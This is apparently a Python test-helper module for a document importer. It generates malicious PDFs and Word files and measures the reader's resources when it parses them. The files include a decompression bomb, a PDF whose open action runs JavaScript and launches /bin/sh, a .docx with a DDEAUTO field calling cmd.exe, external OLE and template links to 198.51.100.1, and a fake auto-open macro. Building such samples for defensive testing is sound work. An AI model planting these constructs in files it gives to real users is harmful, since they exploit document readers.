"""Files that mean harm, and what reading one costs in a process of its own."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import time
import zipfile
import zlib
from pathlib import Path
from typing import NamedTuple

from cchc.cli.importing import _environment
from tests.imports.samples import saved, word

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


class Cost(NamedTuple):
    """What became of a file: the problem's code ("" when it was read), seconds, the most memory in bytes.

    ``work``: seconds in which a processor worked for it, which a busy machine does not draw out.
    """

    code: str
    seconds: float
    memory: int
    work: float


#: Starts the reader from a small process: what the tests' own took counts as the child's, too (getrusage(2)).
_STARTER = (
    "import os, subprocess, sys\n"
    "child = subprocess.Popen(sys.argv[1:])\n"
    "_, status, usage = os.wait4(child.pid, 0)\n"
    "work = usage.ru_utime + usage.ru_stime\n"
    "print(os.waitstatus_to_exitcode(status), usage.ru_maxrss, work, file=sys.stderr)\n"
)


def cost(path: Path) -> Cost:
    """Read a file as ``cchc import`` does and measure the reader's process."""
    reader = [sys.executable, "-m", "cchc.cli.import_reader", path.name]
    begun = time.perf_counter()
    with path.open("rb") as file:
        done = subprocess.run(
            [sys.executable, "-c", _STARTER, *reader], stdin=file, capture_output=True, check=True, env=_environment()
        )
    seconds = time.perf_counter() - begun
    *_, status, memory, work = done.stderr.split()
    answer = json.loads(done.stdout) if status == b"0" else {"problem": {"code": f"exit {int(status)}"}}
    return Cost(answer["problem"]["code"] if "problem" in answer else "", seconds, int(memory) * 1024, float(work))


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Give a PDF of these objects, the first of which is the catalogue."""
    data = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    data += b"".join(b"%010d 00000 n \n" % place for place in places)
    return data + b"trailer\n<</Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)


_CATALOGUE, _PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<<>>>>"


def swollen_pdf(megabytes: int) -> bytes:
    """A PDF of one page, whose few bytes unpack to so many megabytes of drawing."""
    packer = zlib.compressobj(9)
    piece = b"0 0 m 9 9 l S\n" * 74_898  # one megabyte
    body = b"".join(packer.compress(piece) for _ in range(megabytes)) + packer.flush()
    stream = b"<</Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(body), body)
    return pdf(_CATALOGUE, _PAGES, _PAGE, stream)


def locked_pdf() -> bytes:
    """A PDF that asks for a password (ISO 32000-1, 7.6.3)."""
    lock = b"<</Filter/Standard/V 1/R 2/P -4/O <%s>/U <%s>>>" % (b"41" * 32, b"42" * 32)
    return pdf(_CATALOGUE, _PAGES, _PAGE, lock, trailer=b"/Encrypt 4 0 R /ID [<00><00>]")


def acting_pdf() -> bytes:
    """A PDF with a script, a program to launch and an address to open as soon as it is opened."""
    catalogue = b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>"
    action = (
        b"<</S/JavaScript/JS(app.launchURL\\('http://198.51.100.1/'\\))"
        b"/Next[<</S/Launch/F(/bin/sh)>><</S/URI/URI(http://198.51.100.1/)>>]>>"
    )
    return pdf(catalogue, _PAGES, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]>>", action)


def endless_pages() -> bytes:
    """A PDF whose tree of pages holds itself."""
    return pdf(_CATALOGUE, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 100000000>>")


def _parts(data: bytes) -> dict[str, bytes]:
    sound = zipfile.ZipFile(io.BytesIO(data))
    return {name: sound.read(name) for name in sound.namelist()}


def _packed(parts: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in parts.items():
            made.writestr(name, data)
    return stream.getvalue()


def huge_word_table(rows: int) -> bytes:
    """A Word file whose one table has so many rows of six cells."""
    parts = _parts(saved(word("KẾ HOẠCH")))
    row = "<w:tr>" + "<w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>" * 6 + "</w:tr>"
    body = f'<w:document xmlns:w="{WORD}"><w:body><w:tbl>{row * rows}</w:tbl></w:body></w:document>'
    return _packed({**parts, "word/document.xml": body.encode()})


def deep_word(depth: int) -> bytes:
    """A Word file with tables in tables in tables."""
    parts = _parts(saved(word("KẾ HOẠCH")))
    inside = "<w:tbl><w:tr><w:tc>" * depth + "<w:p><w:r><w:t>a</w:t></w:r></w:p>" + "</w:tc></w:tr></w:tbl>" * depth
    body = f'<w:document xmlns:w="{WORD}"><w:body>{inside}</w:body></w:document>'
    return _packed({**parts, "word/document.xml": body.encode()})


def reaching_word() -> bytes:
    """A Word file with macros, and with a template, a picture and an object that lie on other machines."""
    made = word("KẾ HOẠCH\nTuyên truyền năm 2024")
    parts = _parts(saved(made))
    far = (
        '<Relationship Id="rIdX%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
        'Target="http://198.51.100.1/%s" TargetMode="External"/>'
    )
    kinds = ("attachedTemplate", "image", "oleObject")
    more = "".join(far % (number, kind, kind) for number, kind in enumerate(kinds)) + "</Relationships>"
    name = "word/_rels/document.xml.rels"
    parts[name] = parts[name].replace(b"</Relationships>", more.encode())
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/c calc"'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr'
    )
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:sectPr", field.encode(), 1)
    return _packed({**parts, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"AutoOpen Shell" * 50})


def otherwise_packed() -> bytes:
    """A zip packed in a way that no .docx may be, and damaged in it."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_LZMA) as made:
        made.writestr("word/document.xml", "<w:document/>" * 400)
    data = bytearray(stream.getvalue())
    data[len("word/document.xml") + 60] ^= 0xFF
    return bytes(data)
